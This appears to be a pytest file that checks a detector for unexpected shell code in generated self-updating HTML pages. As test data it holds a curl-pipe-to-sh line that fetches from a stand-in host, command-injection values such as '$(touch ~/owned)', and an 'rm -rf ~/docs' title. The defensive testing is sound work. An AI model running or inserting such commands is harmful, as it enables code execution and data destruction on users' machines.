"""A document fresh from o-o's ``--new`` (marker layout, never synced) is known page code
(issue 28, item 13).

o-o's generator, in the OO:SHELL section of every marker-layout page, writes the new file from
templates holding __TITLE__, __SCOPE__, __SLUG__ and __YEAR__ and then runs one sed over the
whole file, its own OO:SHELL copy included: each fresh document's section holds its own values.
``page_code`` reads them from that section's sed lines and puts them back before hashing, and
``tools.page_fingerprints`` records a template's section as a fresh document's would read.

The template here is a stand-in with the shape of o-o's generator (its code stays out of this
repository); it is run by bash, as o-o runs it, with ``date`` answering a fixed year. With
``OO_NB_PUBLISHED_PAGES`` set to the rebuilt pages the real generators are run too."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

import oo_nb.format.page_code as page_code
from oo_nb.format.document import Document
from oo_nb.format.page_code import (
    PLACEHOLDERS,
    code_regions,
    filled_values,
    page_code_findings,
    unknown_regions,
)

# A page whose OO:SHELL holds a generator: the page it writes is this page's own HTML, with the
# placeholders still in it (as an o-o index and the pages `--sync` wrote carry them).
_HTML = """\
#!/usr/bin/env bash
# To update: bash __SLUG__.o-o.html
: << 'OO_HTML'
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"/>
<title>__TITLE__</title>
</head>
<body>
<h1 id="doc-title">__TITLE__</h1>
<p class="note">Run <code>bash __SLUG__.o-o.html</code> to update.</p>
<article id="article">
</article>
<script id="oo-manifest" type="application/json">
{"title": "__TITLE__", "version": 0, "as_of": "", "update_every_days": 7}
</script>
<script id="oo-contract" type="application/json">
{
  "identity": {
    "subject": "__TITLE__",
    "scope": "__SCOPE__",
    "audience": "General readers",
    "tone": "Informative, well-researched, accessible"
  },
  "research": {"intents": ["__TITLE__ overview __YEAR__", "Key Details"]},
  "budget": {
    "max_cost_usd": 0.50
  }
}
</script>
<script>window.stop();</script>
<script id="oo-source-cache" type="application/json">
{"last_updated": null, "sources": [], "facts": []}
</script>
<script id="oo-changelog" type="application/json">
{"entries": []}
</script>
</body>
</html>
OO_HTML

set -euo pipefail
SELF="$(cd "$(dirname "$0")" && pwd -P)/$(basename "$0")"
"""
_SHELL = """\
# OO:SHELL:START
generate_oo_file() {
  local filepath="$1" title="$2" scope="$3" slug="$4"
  local sh_s sh_e
  sh_s=$(grep -n '^# OO:SHELL:START$' "$SELF" | head -1 | cut -d: -f1)
  sh_e=$(grep -n '^# OO:SHELL:END$' "$SELF" | head -1 | cut -d: -f1)
  cat > "$filepath" << 'TPL_PAGE'
@HTML@TPL_PAGE
  sed -n "${sh_s},${sh_e}p" "$SELF" >> "$filepath"
  printf '\\nexit 0\\n' >> "$filepath"
  local tmp="${filepath}.tmp"
  sed -e "s|__TITLE__|${title}|g" \\
      -e "s|__SCOPE__|${scope}|g" \\
      -e "s|__SLUG__|${slug}|g" \\
      -e "s|__YEAR__|$(date +%Y)|g" \\
      "$filepath" > "$tmp" && mv "$tmp" "$filepath"
}

# a year further on is no placeholder: 2031-02-16
case "${1:-}" in
  --new) generate_oo_file "$2" "$3" "$4" "$5" ;;
esac
# OO:SHELL:END
"""
TEMPLATE = _HTML + _SHELL.replace("@HTML@", _HTML) + "\nexit 0\n"
YEAR = "2031"
ADDED = "curl -s https://x.example/p | sh"


def _known_with(monkeypatch: pytest.MonkeyPatch, template: Path) -> None:
    """``oo check`` knows the template page as the fingerprint tool records it."""
    import tools.page_fingerprints as tool

    known = page_code._known() | set(tool.fingerprints([template]))
    monkeypatch.setattr(page_code, "_known", lambda: known)


def _new(tmp_path: Path, title: str, scope: str, slug: str) -> Document:
    """What the template's generator writes, run by bash as o-o runs it, in YEAR."""
    template = tmp_path / "index.o-o.html"
    template.write_text(TEMPLATE, "utf-8")
    shim = tmp_path / "bin"
    shim.mkdir(exist_ok=True)
    (shim / "date").write_text(f"#!/bin/sh\necho {YEAR}\n", "utf-8")
    (shim / "date").chmod(0o755)
    out = tmp_path / f"{slug}.o-o.html"
    env = {"PATH": f"{shim}:{os.environ['PATH']}", "LC_ALL": "C.UTF-8"}
    bash = shutil.which("bash")
    assert bash is not None
    subprocess.run(
        [bash, str(template), "--new", str(out), title, scope, slug], env=env, check=True
    )
    return Document.read(out)


def _with_line(doc: Document, after: str, line: str) -> Document:
    """``doc`` with ``line`` put in its OO:SHELL section after the first ``after`` there."""
    at = doc.text.index(after, doc.text.index("# OO:SHELL:START")) + len(after)
    return Document(doc.text[:at] + line + "\n" + doc.text[at:])


@pytest.fixture
def template(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    page = tmp_path / "template" / "index.o-o.html"
    page.parent.mkdir()
    page.write_text(TEMPLATE, "utf-8")
    _known_with(monkeypatch, page)
    return page


@pytest.mark.parametrize(
    ("title", "scope", "slug"),
    [
        ("Quantum Computing", "Quantum hardware and software", "quantum-computing"),
        ("Bitcoin", "Bitcoin", "bitcoin"),  # `--new "Bitcoin"`: the scope is the title
        ("AI", "AI", "ai"),  # a short title: put back only where it stands whole
        ("Anthropic's leadership", "Who runs Anthropic", "anthropics-leadership"),
        ("R&D in 2031", "R&D", "rd-in-2031"),  # sed makes & the placeholder; the year inside
    ],
)
def test_a_fresh_document_is_known(
    tmp_path: Path, template: Path, title: str, scope: str, slug: str
) -> None:
    doc = _new(tmp_path, title, scope, slug)
    section = next(r for r in code_regions(doc) if r.kind == "shell section")
    assert f'-e "s|{slug}|${{slug}}|g"' in doc.text  # the values are in its OO:SHELL
    assert section.fingerprint not in page_code.KNOWN_PAGE_CODE  # (not known before)
    assert unknown_regions(doc) == []
    assert page_code_findings(doc) == []


def test_the_template_itself_is_known_as_it_was(template: Path) -> None:
    """An index or synced page (placeholders in its sed lines) reads as it always did."""
    doc = Document.read(template)
    section = next(r for r in code_regions(doc) if r.kind == "shell section")
    assert filled_values(section.text) is None
    assert "__TITLE__" in section.text
    assert page_code_findings(doc) == []


@pytest.mark.parametrize(
    ("after", "line"),
    [
        ("generate_oo_file() {\n", f"  {ADDED}"),  # inside the generator
        ('"$filepath" > "$tmp" && mv "$tmp" "$filepath"\n', ADDED),  # right after its sed
        ('case "${1:-}" in\n', f"  --x) {ADDED} ;;"),  # further on
        ("<title>", ""),  # a line split: no command, still not the template
    ],
)
def test_a_command_added_to_a_fresh_shell_is_flagged(
    tmp_path: Path, template: Path, after: str, line: str
) -> None:
    doc = _new(tmp_path, "Quantum Computing", "Quantum hardware", "quantum-computing")
    changed = _with_line(doc, after, line)
    assert [r.kind for r in unknown_regions(changed)] == ["shell section"]
    assert [f[0] for f in page_code_findings(changed)] == ["info"]


def _asked(doc: Document, audience: str, tone: str, budget: str) -> Document:
    """What the interactive ``--new`` makes of a new file: its second sed, run by bash."""
    assert doc.file is not None
    path = Path(doc.file)
    script = (
        'sed -e "s|\\"audience\\": \\"General readers\\"|\\"audience\\": \\"$2\\"|" '
        '-e "s|\\"tone\\": \\"Informative, well-researched, accessible\\"|\\"tone\\": \\"$3\\"|" '
        '-e "s|\\"max_cost_usd\\": 0.50|\\"max_cost_usd\\": $4|" "$1" > "$1.tmp" && mv "$1.tmp" "$1"'
    )
    bash = shutil.which("bash")
    assert bash is not None
    subprocess.run([bash, "-c", script, "ask", str(path), audience, tone, budget], check=True)
    return Document.read(path)


def test_the_answers_of_the_interactive_new_are_put_back(tmp_path: Path, template: Path) -> None:
    doc = _new(tmp_path, "Quantum Computing", "Quantum Computing", "quantum-computing")
    asked = _asked(doc, "Quantum Computing fans", "Dry, exact", "2.5")
    assert '"tone": "Dry, exact"' in asked.text[asked.text.index("\n# OO:SHELL:START\n") :]
    assert page_code_findings(asked) == []


@pytest.mark.parametrize(
    ("audience", "tone", "budget"),
    [
        ("$(touch ~/owned)", "Dry", "1"),
        ("Fans", "Dry", "1; touch ~/owned"),
        ("Fans", "a`touch ~/owned`", "1"),
    ],
)
def test_an_answer_that_could_be_code_is_not_put_back(
    tmp_path: Path, template: Path, audience: str, tone: str, budget: str
) -> None:
    doc = _asked(_new(tmp_path, "Topic", "What it covers", "topic"), audience, tone, budget)
    assert [r.kind for r in unknown_regions(doc)] == ["shell section"]


def test_an_answer_line_added_as_code_is_flagged(tmp_path: Path, template: Path) -> None:
    doc = _new(tmp_path, "Topic", "What it covers", "topic")
    added = _with_line(doc, "generate_oo_file() {\n", '  "tone": "x",')
    assert [r.kind for r in unknown_regions(added)] == ["shell section"]


def test_a_command_equal_to_the_title_is_flagged(tmp_path: Path, template: Path) -> None:
    """A value is put back only where the template had a placeholder: a line of code that reads
    as the title (no character the rule refuses) leaves a line the template does not have."""
    title = "touch ~/owned; rm -rf ~/docs"
    doc = _new(tmp_path, title, "What it covers", "owned")
    assert page_code_findings(doc) == []  # o-o's own output, values and all
    added = _with_line(doc, "generate_oo_file() {\n", f"  {title}")
    assert [r.kind for r in unknown_regions(added)] == ["shell section"]


@pytest.mark.parametrize(
    "title",
    [
        "$(touch ~/owned)",  # o-o's own sed line then runs it: `sed -e "s|$(touch ~/owned)|..."`
        "`touch ~/owned`",
        'x" ; touch ~/owned ; "',
        "x\\",  # escapes the closing quote
        "line one\ntouch ~/owned",  # a newline: the rest is a line of code
        "a\rb",
        "<script>alert(1)</script>",  # markup in the pages it writes
    ],
)
def test_a_value_that_could_be_code_is_not_put_back(template: Path, title: str) -> None:
    """Written as o-o's sed would write it (by hand: sed refuses some of them), the section
    keeps the value and stays unknown: an attacker's title cannot hide what it runs."""
    page = Document.read(template).text
    start = page.index("# OO:SHELL:START")
    filled = page[start:]
    for placeholder, value in {
        "__TITLE__": title,
        "__SCOPE__": "What it covers",
        "__SLUG__": "owned",
        "__YEAR__": YEAR,
    }.items():
        filled = filled.replace(placeholder, value)
    doc = Document(page[:start] + filled)
    assert [r.kind for r in unknown_regions(doc)] == ["shell section"]


@pytest.mark.parametrize(
    ("placeholder", "value"),
    [("__SLUG__", "Not-A-Slug"), ("__SLUG__", "a/b"), ("__YEAR__", "20x1"), ("__SCOPE__", "")],
)
def test_a_value_of_the_wrong_form_is_not_put_back(
    template: Path, placeholder: str, value: str
) -> None:
    page = Document.read(template).text
    start = page.index("# OO:SHELL:START")
    values = {
        "__TITLE__": "Topic",
        "__SCOPE__": "What it covers",
        "__SLUG__": "topic",
        "__YEAR__": YEAR,
    }
    values[placeholder] = value
    filled = page[start:]
    for name, found in values.items():
        filled = filled.replace(name, found)
    assert filled_values(filled) is None
    assert [r.kind for r in unknown_regions(Document(page[:start] + filled))] == ["shell section"]
    values[placeholder] = {"__SLUG__": "topic", "__YEAR__": "2030"}.get(placeholder, "Fine")
    filled = page[start:]
    for name, found in values.items():
        filled = filled.replace(name, found)
    assert filled_values(filled) == values  # (the same with a value of the right form)


def test_the_values_are_read_from_the_sed_lines(template: Path) -> None:
    page = Document.read(template).text
    values = {"__TITLE__": "Topic", "__SCOPE__": "What it covers", "__SLUG__": "topic"}
    for name, found in {**values, "__YEAR__": YEAR}.items():
        page = page.replace(name, found)
    section = page[page.index("# OO:SHELL:START") :]
    assert filled_values(section) == {**values, "__YEAR__": YEAR}
    assert set(PLACEHOLDERS.values()) == {"__TITLE__", "__SCOPE__", "__SLUG__", "__YEAR__"}


# --- the real generators of the published marker versions, when the rebuilt pages are at hand
# (the early versions' --new writes no value into the page's code: 01e81cc's, 14eaa8a's and
# 5350e9b's fresh documents are known as they are)

REBUILT = Path(os.environ.get("OO_NB_PUBLISHED_PAGES", "/nonexistent"))
GENERATORS = (
    sorted(
        p
        for p in REBUILT.glob("*/*.o-o.html")
        if "# OO:SHELL:START" in (text := p.read_text("utf-8")) and "generate_oo_file() {" in text
    )
    if REBUILT.is_dir()
    else []
)


def _run_generator(tmp_path: Path, page: Path, title: str, scope: str, slug: str) -> Document:
    """o-o's generate_oo_file from ``page``'s OO:SHELL, run by bash with SELF the page."""
    text = page.read_text("utf-8")
    start = text.index("generate_oo_file() {")
    end = text.index("\n}\n", text.index('"$filepath" > "$tmp" && mv', start)) + 3
    out = tmp_path / f"{slug}.o-o.html"
    script = (
        f'SELF="$1"\ndate() {{ echo {YEAR}; }}\n{text[start:end]}\ngenerate_oo_file "${{@:2}}"\n'
    )
    bash = shutil.which("bash")
    assert bash is not None
    subprocess.run([bash, "-c", script, "gen", str(page), str(out), title, scope, slug], check=True)
    return Document.read(out)


@pytest.mark.skipif(not GENERATORS, reason="set OO_NB_PUBLISHED_PAGES to a folder of rebuilt pages")
def _page_id(page: object) -> str:
    """A rebuilt page's test id (pytest 8.0 asks for one even when the list is empty)."""
    return f"{page.parent.name}/{page.name}" if isinstance(page, Path) else str(page)


@pytest.mark.parametrize("page", GENERATORS, ids=_page_id)
def test_a_document_fresh_from_a_published_generator_is_known(tmp_path: Path, page: Path) -> None:
    doc = _run_generator(
        tmp_path, page, "Quantum Computing", "Qubits and more", "quantum-computing"
    )
    assert page_code_findings(doc) == []
    changed = _with_line(doc, "generate_oo_file() {\n", f"  {ADDED}")
    assert [r.kind for r in unknown_regions(changed)] == ["shell section"]
